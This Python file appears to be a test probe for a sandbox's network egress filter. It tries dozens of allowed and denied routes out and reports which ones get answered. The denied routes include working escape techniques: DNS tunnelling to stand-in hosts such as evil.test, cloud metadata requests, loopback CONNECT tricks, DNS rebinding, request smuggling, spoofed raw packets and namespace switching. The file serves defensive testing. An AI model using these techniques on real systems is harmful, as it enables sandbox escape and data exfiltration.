"""Tries the ways out of a sandbox and says of each what came of it: one JSON object a line.

A way is open if something on the other side has answered, which says "<place> sees". What only sends is seen there.
The argument is a JSON object with what the stage is made of; PROXY is the proxy that the environment names, or every
port that something in the sandbox listens on.
"""

import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

STAGE = json.loads(sys.argv[1])
LIMIT = STAGE["limit"]
WEB, EVIL, DATABASE, NAMES = (STAGE[k] for k in ("web", "evil", "database", "names"))
METADATA, HOST, SIX = STAGE["metadata"], STAGE["host"], STAGE["six"]
API, SERVICE = STAGE["api"], STAGE["service"]
MARK = b"ostler-probe"
HEALTH = b"GET /api/v1/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"

ALLOWED, DENIED = [], []


def way(list_, name, logged=None):
    """Adds an attempt; `logged` is what the target of its denial contains, if it must reach the filter."""

    def add(attempt):
        list_.append((name, logged, attempt))
        return attempt

    return add


def is_open(answer):
    return b" sees " in answer or b'"version"' in answer


def read(stream, until=None):
    """What comes until the end, a silence, or `until`."""
    stream.settimeout(LIMIT)
    answer = b""
    try:
        while until is None or until not in answer:
            piece = stream.recv(4096)
            if not piece:
                break
            answer += piece
            if until is None and is_open(answer):
                break
    except OSError:
        pass
    return answer


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def tcp(address, port, payload=MARK, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family(address), kind, protocol) as stream:
        stream.settimeout(LIMIT)
        stream.connect((address, port))
        if payload:
            stream.sendall(payload)
        return read(stream)


def udp(address, port, payload=MARK, options=()):
    with socket.socket(family(address), socket.SOCK_DGRAM) as packets:
        for option in options:
            packets.setsockopt(*option)
        packets.settimeout(LIMIT)
        packets.sendto(payload, (address, port))
        return packets.recv(4096)


def hello(name):
    """The first message of a TLS client."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def question(name, kind=1):
    query = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        query += bytes([len(label)]) + label.encode()
    return query + b"\0" + struct.pack(">HH", kind, 1)


def framed(message):
    return struct.pack(">H", len(message)) + message


def answered(message):
    """An answer with records in it is a way; a refusal is none."""
    return b"outside sees records" if len(message) > 12 and struct.unpack(">H", message[6:8])[0] else b""


# --- The proxy


def proxies():
    url = os.environ.get("HTTP_PROXY")
    if url:
        host, port = url.removeprefix("http://").rstrip("/").rsplit(":", 1)
        return [(host, int(port))]
    found = set()
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        _, local, _, state = line.split()[:4]
        if state == "0A":
            found.add(("127.0.0.1", int(local.split(":")[1], 16)))
    return sorted(found)


def proxied(*said):
    """Says one thing after the other to the proxy, each after an answer to the one before; the last answer."""
    answer = b""
    for proxy in proxies():
        with socket.socket() as stream:
            stream.settimeout(LIMIT)
            stream.connect(proxy)
            for index, words in enumerate(said):
                stream.sendall(words)
                last = index + 1 == len(said)
                answer = read(stream, None if last else b"\r\n\r\n")
                if not last and b" 200 " not in answer.split(b"\r\n")[0]:
                    break
            if is_open(answer):
                return answer
    return answer


def connect(target, *then):
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
    return proxied(head, *(then or (MARK,)))


def get(uri, host, more=""):
    return proxied(f"GET {uri} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode())


def socks(request, then=MARK, version=5):
    answer = b""
    for proxy in proxies():
        with socket.socket() as stream:
            stream.settimeout(LIMIT)
            stream.connect(proxy)
            if version == 5:
                stream.sendall(b"\5\1\0")
                if stream.recv(2) != b"\5\0":
                    continue
            stream.sendall(request)
            reply = stream.recv(64)
            if reply[1:2] != (b"\0" if version == 5 else b"\x5a"):
                continue
            stream.sendall(then)
            answer = read(stream)
            if is_open(answer):
                return answer
    return answer


def socks_name(name, port):
    return b"\5\1\0\3" + bytes([len(name)]) + name.encode() + struct.pack(">H", port)


def socks_address(address, port):
    kind = b"\4" if ":" in address else b"\1"
    return b"\5\1\0" + kind + socket.inet_pton(family(address), address) + struct.pack(">H", port)


# --- What is allowed

way(ALLOWED, "CONNECT to the domain, TLS")(lambda: connect("web.test:443", hello("web.test")))
way(ALLOWED, "GET of the domain")(lambda: get("http://web.test/", "web.test"))
way(ALLOWED, "CONNECT to the address")(lambda: connect(f"{DATABASE}:5432"))
way(ALLOWED, "SOCKS to the domain, TLS")(lambda: socks(socks_name("web.test", 443), hello("web.test")))
way(ALLOWED, "SOCKS to the address")(lambda: socks(socks_address(DATABASE, 5432)))
if STAGE["interface"]:
    way(ALLOWED, "TCP to the address")(lambda: tcp(DATABASE, 5432))
    way(ALLOWED, "UDP to the address")(lambda: udp(DATABASE, 5432))
    way(ALLOWED, "TLS by the name")(
        lambda: tcp(socket.gethostbyname("web.test"), 443, hello("web.test"))
    )

# --- Straight ahead, without the proxy. With an interface these reach the filter.


def direct(name, logged=None):
    return way(DENIED, name, logged if STAGE["interface"] else None)


direct("TCP to an address", f"{EVIL}:443")(lambda: tcp(EVIL, 443, hello("evil.test")))
direct("TCP to port 22", f"{EVIL}:22")(lambda: tcp(EVIL, 22, b"SSH-2.0-x\r\n"))
direct("TCP to another port of the domain's address", f"{WEB}:22")(lambda: tcp(WEB, 22))
direct("TCP to another port of the address", f"{DATABASE}:22")(lambda: tcp(DATABASE, 22))
direct("TLS to the domain's address with another name", "evil.test")(lambda: tcp(WEB, 443, hello("evil.test")))
direct("TLS to the domain's address without a name", f"{WEB}:443")(lambda: tcp(WEB, 443, hello(None)))
direct("the domain's name to another address's port", ":8443")(lambda: tcp(EVIL, 8443, hello("web.test")))
direct("HTTP to an address with another's Host", "evil.test")(
    lambda: tcp(EVIL, 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
)
direct("the metadata service", METADATA)(
    lambda: tcp(METADATA, 80, f"GET /latest/meta-data/ HTTP/1.1\r\nHost: {METADATA}\r\n\r\n".encode())
)
direct("the metadata service by UDP", METADATA)(lambda: udp(METADATA, 80))
direct("a private address 10.0.0.0/8", "10.99.0.1")(lambda: tcp("10.99.0.1", 80))
direct("a private address 172.16.0.0/12", "172.16.9.9")(lambda: tcp("172.16.9.9", 80))
direct("a private address 192.168.0.0/16", "192.168.77.1")(lambda: tcp("192.168.77.1", 80))
direct("the host's own address", HOST)(lambda: tcp(HOST, SERVICE))
direct("the host's own address by UDP", HOST)(lambda: udp(HOST, SERVICE))
direct("another port with the protocol of UDP", f"{EVIL}:443")(lambda: udp(EVIL, 443))
direct("UDP in fragments", f"{EVIL}:9999")(lambda: udp(EVIL, 9999, MARK * 500))
direct("a broadcast", "255.255.255.255")(
    lambda: udp("255.255.255.255", 67, MARK, [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
)
# The kernel drops this one by itself, before the filter.
direct("a multicast", None)(lambda: udp("224.0.0.251", 5353))
direct("DNS tunnel: a name server by UDP", "deadbeef01.evil.test")(
    lambda: answered(udp(NAMES, 53, question("deadbeef01.evil.test")))
)
direct("DNS tunnel: a name server by TCP", "deadbeef02.evil.test")(
    lambda: answered(tcp(NAMES, 53, framed(question("deadbeef02.evil.test")))[2:])
)
direct("DNS tunnel: TXT of an allowed name", "web.test")(lambda: answered(udp(NAMES, 53, question("web.test", 16))))
direct("DNS tunnel: below the allowed name", "deadbeef03.web.test")(
    lambda: answered(udp(NAMES, 53, question("deadbeef03.web.test")))
)
direct("DNS of a name with an inner address", "rebind.test")(
    lambda: answered(udp(NAMES, 53, question("rebind.test")))
)


@direct("DNS tunnel: the resolver of programs", "deadbeef04.evil.test")
def _():
    return b"outside sees " + socket.gethostbyname("deadbeef04.evil.test").encode()


@way(DENIED, "IPv6")
def _():
    return tcp(SIX, 443)


way(DENIED, "IPv6 by UDP")(lambda: udp(SIX, 443))
way(DENIED, "the metadata service by IPv6")(lambda: tcp("fd00:ec2::254", 80))
way(DENIED, "IPv4 written as IPv6")(lambda: tcp(f"::ffff:{EVIL}", 22))
way(DENIED, "the server on the loopback")(lambda: tcp("127.0.0.1", API, HEALTH))
way(DENIED, "the server on the host's address")(lambda: tcp(HOST, API, HEALTH))
way(DENIED, "the server on the loopback by IPv6")(lambda: tcp("::1", API, HEALTH))
way(DENIED, "a service on the host's loopback")(lambda: tcp("127.0.0.1", SERVICE))
way(DENIED, "multipath TCP")(lambda: tcp(EVIL, 22, protocol=262))
way(DENIED, "SCTP")(lambda: tcp(EVIL, 22, protocol=132))


@way(DENIED, "TCP with data in the first packet")
def _():
    with socket.socket() as stream:
        stream.settimeout(LIMIT)
        stream.sendto(MARK, 0x20000000, (EVIL, 22))
        return read(stream)


def gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    raise OSError("there is no gateway")


way(DENIED, "a service at the gateway")(lambda: tcp(gateway(), SERVICE))
way(DENIED, "the server at the gateway")(lambda: tcp(gateway(), API, HEALTH))


@way(DENIED, "another sandbox")
def _():
    if not STAGE["neighbour"]:
        raise OSError("it has no address")
    return tcp(STAGE["neighbour"], 7000) + udp(STAGE["neighbour"], 7000)


def echo():
    head = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + MARK
    head += b"\0" * (len(head) % 2)
    total = sum(struct.unpack(f">{len(head) // 2}H", head))
    total = (total >> 16) + (total & 0xFFFF)
    return head[:2] + struct.pack(">H", ~total & 0xFFFF) + head[4:]


def ping(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as packets:
        packets.settimeout(LIMIT)
        packets.sendto(echo(), (EVIL, 0))
        answer = packets.recv(4096)
        # An ICMP error of the way is none from there.
        kind_at = 20 if kind == socket.SOCK_RAW else 0
        return b"outside sees ICMP" if answer[kind_at] == 0 else b""


way(DENIED, "ICMP, raw")(lambda: ping(socket.SOCK_RAW))
way(DENIED, "ICMP, as ping sends it")(lambda: ping(socket.SOCK_DGRAM))


@way(DENIED, "a whole IP packet with a false sender")
def _():
    body = struct.pack(">HHHH", 53, 443, 8 + len(MARK), 0) + MARK
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0)
    head += socket.inet_aton(HOST) + socket.inet_aton(EVIL)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as packets:
        packets.sendto(head + body, (EVIL, 0))
    return b""


@way(DENIED, "frames below IP")
def _():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as frames:
        for interface in os.listdir("/sys/class/net"):
            frames.bind((interface, 0))
            frames.send(b"\xff" * 12 + b"\x08\x00" + MARK * 4)
    return b""


@way(DENIED, "the host's virtual sockets")
def _():
    for port in (1, 1024, API, SERVICE):
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as stream:
            stream.settimeout(1)
            try:
                stream.connect((2, port))
                stream.sendall(HEALTH)
                if is_open(answer := read(stream)):
                    return answer
            except OSError:
                pass
    raise OSError("nothing answers")


@way(DENIED, "an abstract socket of the host")
def _():
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(LIMIT)
        stream.connect("\0ostler-escape-test")
        return read(stream)


@way(DENIED, "sockets of engines and of the server in files")
def _():
    answer = b""
    for path in STAGE["sockets"]:
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(LIMIT)
            try:
                stream.connect(path)
            except OSError:
                continue
            answer += b"host sees " + path.encode()
    if not answer:
        raise OSError("none is there")
    return answer


libc = ctypes.CDLL(None, use_errno=True)


def enter(path):
    descriptor = os.open(path, os.O_RDONLY)
    if libc.setns(descriptor, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return tcp(EVIL, 22)


def aside(attempt):
    """In a process of its own, which may change its namespaces."""
    here, there = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(there, attempt())
        except BaseException:
            pass
        os._exit(0)
    os.close(there)
    answer = os.read(here, 4096)
    os.close(here)
    os.waitpid(child, 0)
    return answer


way(DENIED, "the network namespace of the first process")(lambda: aside(lambda: enter("/proc/1/ns/net")))


@way(DENIED, "network namespaces with a name")
def _():
    def all_of_them():
        for name in os.listdir("/run/netns"):
            if is_open(answer := enter(f"/run/netns/{name}")):
                return answer
        return b""

    return aside(all_of_them)


@way(DENIED, "user and network namespaces of one's own")
def _():
    def inside():
        if libc.unshare(0x50000000) != 0:
            raise OSError("unshare")
        return tcp(EVIL, 22)

    return aside(inside)


@way(DENIED, "a tunnel device")
def _():
    import fcntl

    with open("/dev/net/tun", "r+b", buffering=0) as tunnel:
        fcntl.ioctl(tunnel, 0x400454CA, struct.pack("16sH22x", b"way", 0x1001))
        tunnel.write(MARK * 4)
    return tcp(EVIL, 22)


@way(DENIED, "another address and another route")
def _():
    if not STAGE["spoil"]:
        raise OSError("not here")
    os.system(f"(ip addr add {HOST}/24 dev lo; ip link set lo up; ip route replace default dev lo) >/dev/null 2>&1")
    for interface in os.listdir("/sys/class/net"):
        os.system(f"(ip link set {interface} up; ip route replace {EVIL} dev {interface}) >/dev/null 2>&1")
    return tcp(EVIL, 22)


@way(DENIED, "an interface chosen by the program")
def _():
    for interface in os.listdir("/sys/class/net"):
        with socket.socket() as stream:
            stream.settimeout(LIMIT)
            try:
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
                stream.connect((EVIL, 22))
                stream.sendall(MARK)
                if is_open(answer := read(stream)):
                    return answer
            except OSError:
                pass
    return b""


# --- Through the proxy. All of these reach the filter.


def asked(name, logged):
    return way(DENIED, name, logged if STAGE["proxy"] else None)


def closed_connect(name, target, logged, *then):
    asked(name, logged)(lambda: connect(target, *then))


closed_connect("CONNECT to another domain", "evil.test:443", "evil.test:443")
closed_connect("CONNECT to another port of the domain", "web.test:22", "web.test:22")
closed_connect("CONNECT below the domain", "deadbeef05.web.test:443", "deadbeef05.web.test:443")
closed_connect("CONNECT to a domain that ends alike", "evilweb.test:443", "evilweb.test:443")
closed_connect("CONNECT to an address", f"{EVIL}:443", f"{EVIL}:443")
closed_connect("CONNECT to the domain's address", f"{WEB}:443", f"{WEB}:443")
closed_connect("CONNECT to another port of the address", f"{DATABASE}:443", f"{DATABASE}:443")
closed_connect("CONNECT to the metadata service", f"{METADATA}:80", f"{METADATA}:80")
closed_connect("CONNECT to IPv6", f"[{SIX}]:443", f"[{SIX}]:443")
closed_connect("CONNECT to IPv4 written as IPv6", f"[::ffff:{METADATA}]:80", METADATA)
closed_connect("CONNECT to NAT64 of the metadata service", "[64:ff9b::a9fe:a9fe]:80", "64:ff9b::")
closed_connect("CONNECT to the server's loopback", f"127.0.0.1:{API}", f"127.0.0.1:{API}", HEALTH)
closed_connect("CONNECT to the server by name", f"localhost:{API}", f"localhost:{API}", HEALTH)
closed_connect("CONNECT to the server by a number", f"2130706433:{API}", str(API), HEALTH)
closed_connect("CONNECT to the server in hexadecimal", f"0x7f000001:{API}", str(API), HEALTH)
closed_connect("CONNECT to the server by zero", f"0.0.0.0:{API}", f"0.0.0.0:{API}", HEALTH)
closed_connect("CONNECT to a service of the host", f"{HOST}:{SERVICE}", f"{HOST}:{SERVICE}")
closed_connect("CONNECT to a name server", f"{NAMES}:53", f"{NAMES}:53", framed(question("deadbeef06.evil.test")))
closed_connect("rebinding: a listed name with the metadata address", "rebind.test:80", "rebind.test")
closed_connect("rebinding: a listed name with the loopback", f"inside.test:{API}", "inside.test", HEALTH)
closed_connect("rebinding: a listed name with a private address", "private.test:80", "private.test")
closed_connect("TLS with another name than asked for", "web.test:443", "evil.test", hello("evil.test"))
closed_connect("TLS without a name", "web.test:443", "web.test:443", hello(None))
closed_connect("no TLS where TLS is expected", "web.test:443", "web.test:443", b"SSH-2.0-x\r\n")
closed_connect("HTTP in the tunnel with another host", "web.test:80", "evil.test",
               b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")


@asked("rebinding: a listed name that changes its address", "flip.test")
def _():
    # Whichever address it has in that moment; the outside's is allowed.
    for _ in range(6):
        answer = get("http://flip.test/", "flip.test")
        if b"inner sees" in answer:
            return answer
        time.sleep(0.05)
    return b""


@asked("the name of TLS in two records", "evil.test")
def _():
    record = hello("evil.test")
    half = len(record) // 2
    body = record[5:]
    pieces = [body[:half], body[half:]]
    return connect("web.test:443", b"".join(record[:3] + struct.pack(">H", len(p)) + p for p in pieces))


asked("GET of another domain", "evil.test")(lambda: get("http://evil.test/", "evil.test"))
asked("GET with another Host", "evil.test")(lambda: get("http://web.test/", "evil.test"))
asked("GET of another port", "web.test:22")(lambda: get("http://web.test:22/", "web.test:22"))
asked("GET with a user before the host", "evil.test")(lambda: get("http://web.test@evil.test/", "evil.test"))
asked("GET of the metadata service", METADATA)(lambda: get(f"http://{METADATA}/latest/meta-data/", METADATA))


@asked("a second request to another domain on one connection", "evil.test")
def _():
    first = b"HEAD http://web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n"
    return proxied(first, b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")


@asked("a request hidden in another's body", "the proxy")
def _():
    hidden = b"0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    head = b"POST http://web.test/ HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n"
    return b"" if b"evil" not in proxied(head + b"Content-Length: 4\r\n\r\n" + hidden) else b"outside sees it"


asked("SOCKS to another domain", "evil.test:443")(lambda: socks(socks_name("evil.test", 443)))
asked("SOCKS to an address", f"{EVIL}:22")(lambda: socks(socks_address(EVIL, 22)))
asked("SOCKS to IPv6", SIX)(lambda: socks(socks_address(SIX, 443)))
asked("SOCKS with another name in TLS", "evil.test")(
    lambda: socks(socks_name("web.test", 443), hello("evil.test"))
)
asked("SOCKS: datagrams", "the proxy")(lambda: socks(b"\5\3\0\1" + bytes(6)))
asked("SOCKS: listening", "the proxy")(lambda: socks(b"\5\2\0\1" + bytes(6)))


@asked("SOCKS of an old version", "the proxy")
def _():
    return socks(b"\4\1" + struct.pack(">H", 22) + socket.inet_aton(EVIL) + b"\0", version=4)


# --- And now


def attempt(index, results, name, logged, work):
    started = time.monotonic()
    try:
        answer = work()
        found = {"open": is_open(answer or b""), "detail": repr((answer or b"")[:120])}
    except Exception as error:
        found = {"open": False, "detail": f"{type(error).__name__}: {error}"}
    found |= {"name": name, "logged": logged, "seconds": round(time.monotonic() - started, 2)}
    results[index] = found


def main():
    time.sleep(STAGE["wait"])
    ways = [("allowed", *w) for w in ALLOWED] + [("denied", *w) for w in DENIED]
    results = [None] * len(ways)
    pending = []
    for index, (_, name, logged, work) in enumerate(ways):
        thread = threading.Thread(target=attempt, args=(index, results, name, logged, work), daemon=True)
        thread.start()
        pending.append(thread)
        # The kernel tells ten refused packets a second.
        time.sleep(STAGE["pause"])
    end = time.monotonic() + 6 * LIMIT
    for thread in pending:
        thread.join(max(0.0, end - time.monotonic()))
    lines = []
    for (kind, name, logged, _), found in zip(ways, results):
        found = found or {"open": False, "detail": "no end", "name": name, "logged": logged, "seconds": None}
        lines.append(json.dumps(found | {"kind": kind}))
    text = "\n".join(lines) + "\n"
    with open(STAGE["result"] + ".new", "w") as file:
        file.write(text)
    os.rename(STAGE["result"] + ".new", STAGE["result"])
    sys.stdout.write(text)
    sys.stdout.flush()
    os._exit(0)


main()
